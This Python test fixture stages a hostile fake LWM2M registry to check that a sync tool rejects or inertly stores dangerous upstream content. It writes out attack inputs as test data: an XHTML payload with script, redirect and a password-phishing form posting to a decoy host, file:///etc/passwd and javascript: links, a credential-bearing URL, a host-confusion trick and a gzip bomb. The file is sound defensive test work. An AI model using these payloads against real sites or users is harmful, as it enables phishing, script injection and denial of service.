"""A crafted registry on 127.0.0.1: every trick of a hostile or broken upstream in one source.

Its items are served verbatim (no link rewriting), so a case can name any URL: another port of
this machine (the decoy, which counts what reaches it), a scheme-relative link, a redirect,
another scheme. Each case is an entry of CASES: what is staged, and what the sync must make of
it. The well-behaved part is the small fixture registry, so the rest must sync untouched.
"""

import gzip
import json
from dataclasses import dataclass

from tests.fake_registry import FakeRegistry

# An attacker's XHTML inside a valid definition: on our origin it would redirect the visitor,
# run a script, show a phishing form and run an XSLT stylesheet.
XHTML_PAYLOAD = (
    '<?xml-stylesheet type="text/xsl" href="{evil}/evil.xsl"?>'
    '<LWM2M xmlns:h="http://www.w3.org/1999/xhtml">'
    '<h:meta http-equiv="refresh" content="0; url={evil}/phish"/>'
    "<h:script>alert(document.domain)</h:script>"
    '<h:form action="{evil}/steal" method="post"><h:input name="password" type="password"/>'
    "<h:button>Log in</h:button></h:form>"
    '<h:img src="{evil}/pixel.png"/>'
    '<Object ObjectType="MODefinition"><Name>Crafted page</Name><ObjectID>{id}</ObjectID>'
    "<ObjectURN>urn:oma:lwm2m:x:{id}</ObjectURN><MultipleInstances>Single</MultipleInstances>"
    "<Mandatory>Optional</Mandatory><Resources>{resources}</Resources></Object></LWM2M>"
)


def resource(rid, name="Value", description="A value.", **fields):
    values = {
        "Name": name,
        "Operations": "R",
        "MultipleInstances": "Single",
        "Mandatory": "Optional",
        "Type": "Integer",
        "RangeEnumeration": "",
        "Units": "",
        "Description": description,
    }
    values.update(fields)
    children = "".join(f"<{key}>{value}</{key}>" for key, value in values.items())
    return f'<Item ID="{rid}">{children}</Item>'


def definition(object_id, name="Crafted", resources=None, lwm2m="1.0", description2=""):
    resources = resource(1) if resources is None else resources
    return (
        '<?xml version="1.0" encoding="UTF-8"?><LWM2M><Object ObjectType="MODefinition">'
        f"<Name>{name}</Name><Description1>Crafted.</Description1><ObjectID>{object_id}</ObjectID>"
        f"<ObjectURN>urn:oma:lwm2m:x:{object_id}</ObjectURN><LWM2MVersion>{lwm2m}</LWM2MVersion>"
        "<ObjectVersion>1.0</ObjectVersion><MultipleInstances>Multiple</MultipleInstances>"
        f"<Mandatory>Optional</Mandatory><Resources>{resources}</Resources>"
        f"<Description2>{description2}</Description2></Object></LWM2M>"
    ).encode()


def repetitive(words, count):
    return " ".join(words[i % len(words)] for i in range(count))


@dataclass
class Case:
    object_id: int
    what: str
    # What the sync must make of it: "ok", "missing", "invalid", or "skipped" (the item).
    expect: str
    ver: str = "1.0"


class HostileRegistry(FakeRegistry):
    """The fixture registry plus the crafted cases, its metadata served exactly as staged."""

    def __init__(self, fixture_folder, decoy):
        super().__init__(fixture_folder)
        self.decoy = decoy
        self.cases = []
        self.raw_items = []

    def metadata(self, query):
        return json.dumps(self.raw_items).encode()

    def add(self, case, link=None, body=None, **item):
        """Stage a case: its registry item (link and fields) and, when given, its file."""
        name = f"{case.object_id}-{case.ver}.xml"
        if body is not None:
            self.set_file(name, body)
        values = {
            "ObjectID": case.object_id,
            "Ver": case.ver,
            "URN": f"urn:oma:lwm2m:x:{case.object_id}",
            "Name": f"Case {case.object_id}",
            "Description": case.what,
            "Owner": "Mallory Inc.",
            "Label": "2",
            "ObjectLink": self.file_url(name) if link is None else link,
            "ObjectLinkVisible": "1",
            "SpecLink": "",
            "SpecLinkVisible": "0",
            "VortoLink": "",
        }
        values.update(item)
        self.raw_items.append(values)
        self.cases.append(case)

    def stage(self):
        """Every case; returns self."""
        decoy = self.decoy
        for item in [dict(item) for item in self.items]:
            if item.get("ObjectLink"):
                item["ObjectLink"] = self.file_url(item["ObjectLink"])
            self.raw_items.append(item)
        port = self.server.server_address[1]

        # -- links that lead outside the source's origin: never contacted -------------------
        decoy.set_file("x.xml", definition(20001))
        self.add(
            Case(20001, "a link to another port of this machine", "missing"),
            link=decoy.file_url("x.xml"),
        )
        self.add(
            Case(20002, "a scheme-relative link to the decoy", "missing"),
            link=decoy.file_url("x.xml").replace("http:", ""),
        )
        self.add(Case(20003, "a redirect to the decoy", "missing"), link=self.file_url("r.xml"))
        self.fail("/files/r.xml", (302, {"Location": decoy.file_url("x.xml")}, b""))
        self.add(Case(20004, "a file: link", "missing"), link="file:///etc/passwd")
        self.add(
            Case(20005, "a javascript: link", "missing"),
            link="javascript:alert(1)",
            SpecLink="javascript:alert(document.domain)",
            SpecLinkVisible="1",
        )
        self.add(
            Case(20006, "a data: spec link", "ok"),
            body=definition(20006),
            SpecLink="data:text/html,<script>alert(1)</script>",
            SpecLinkVisible="1",
        )
        self.add(
            Case(20007, "a link with credentials", "missing"),
            link=self.file_url("x.xml").replace("//", "//user:secret@", 1),
        )
        self.add(
            Case(20008, "the source's port under another host name", "missing"),
            link=f"http://localhost:{port}/files/20008-1.0.xml",
        )
        self.add(Case(20009, "a redirect loop", "missing"), link=self.file_url("loop.xml"))
        self.fail("/files/loop.xml", *[(302, {"Location": self.file_url("loop.xml")}, b"")] * 9)
        self.add(
            Case(20010, "a link with a backslash trick", "missing"),
            link=f"http://127.0.0.1:{decoy.server.server_address[1]}\\@127.0.0.1:{port}/x",
        )

        # -- bodies that are not definitions: invalid, never stored ---------------------------
        self.add(Case(20020, "an HTML page", "invalid"), body=b"<html><body>Login</body></html>")
        self.add(Case(20021, "a gzip bomb", "missing"), link=self.file_url("bomb.xml"))
        bomb = gzip.compress(b"<" + b"A" * (64 * 1024 * 1024), compresslevel=9)
        self.fail(
            "/files/bomb.xml",
            (200, {"Content-Encoding": "gzip", "Content-Type": "application/xml"}, bomb),
        )

        # -- values that do not fit a column or a type: the definition invalid ----------------
        for object_id, lwm2m in (
            (20030, "1.x"),
            (20031, "\u0662.\u0660"),
            (20032, "9" * 30 + ".0"),
        ):
            self.add(
                Case(object_id, f"LWM2MVersion {lwm2m!r}", "invalid"),
                body=definition(object_id, lwm2m=lwm2m),
                Name="",
            )
        self.add(
            Case(20033, "a 300-character name", "invalid"),
            body=definition(20033, name="N" * 300),
            Name="",
        )
        self.add(
            Case(20034, "a resource ID out of range", "invalid"),
            body=definition(20034, resources=resource("99999999999999999999")),
        )
        self.add(
            Case(20035, "a resource ID in Arabic-Indic digits", "invalid"),
            body=definition(20035, resources=resource("\u0665\u0667")),
        )
        self.add(
            Case(20036, "a C1 control character", "invalid"),
            body=definition(20036, resources=resource(1, description="a\u0085b")),
        )
        self.add(
            Case(20037, "2,000 resources", "invalid"),
            body=definition(20037, resources="".join(resource(i) for i in range(2000))),
        )
        self.add(
            Case(20038, "a 300-character unit", "invalid"),
            body=definition(20038, resources=resource(1, Units="u" * 300)),
        )

        self.add(
            Case(20039, "two million blank lines", "ok"),
            body=definition(20039).replace(b"<LWM2M>", b"<LWM2M>" + b"\n" * 2_000_000),
        )

        # -- registry items that cannot be stored: skipped with a warning ---------------------
        self.add(Case(20040, "a NUL in the description", "skipped"), Description="a\x00b")
        self.add(Case(20041, "a 300-character name", "skipped"), Name="N" * 300)
        self.add(Case(20042, "a lone surrogate", "skipped"), Owner="\ud800")
        self.add(Case(20043, "Ver 1.x", "skipped", ver="1.x"))
        self.add(Case(20044, "Ver in Arabic-Indic digits", "skipped", ver="\u0661.\u0660"))
        self.raw_items.append(dict(self.raw_items[-1], ObjectID="\u0663", Ver="1.0"))
        self.add(Case(20045, "ObjectID out of range", "skipped"), ObjectID=99999999999999999999)
        self.cases[-1].object_id = None

        # -- valid but hostile: stored, and shown inertly -------------------------------------
        self.add(
            Case(20050, "a bidi override in the name", "ok"),
            body=definition(20050),
            Name="\u202eevil gnp.exe",
            Owner="\u202eMallory",
        )
        self.add(
            Case(20051, "XHTML inside a definition", "ok"),
            body=XHTML_PAYLOAD.format(evil=decoy.origin, id=20051, resources=resource(1)).encode(),
        )
        self.add(Case(20052, "an unstorable ETag", "ok"), link=self.file_url("etag.xml"))
        self.fail(
            "/files/etag.xml",
            (200, {"ETag": '"' + "e" * 400 + '"', "Last-Modified": "x" * 100}, definition(20052)),
        )
        # The compare's worst case: two versions whose every text is repetitive words.
        rows = lambda words: "".join(  # noqa: E731
            resource(i, description=repetitive(words, 700), RangeEnumeration=repetitive(words, 300))
            for i in range(200)
        )
        for ver, words in (("1.0", ["x"]), ("2.0", ["x", "y"])):
            body = definition(20060, resources=rows(words), description2=repetitive(words, 700))
            self.add(
                Case(20060, "repetitive words in every field", "ok", ver=ver),
                body=body,
                Description=repetitive(words, 700),
            )
        return self
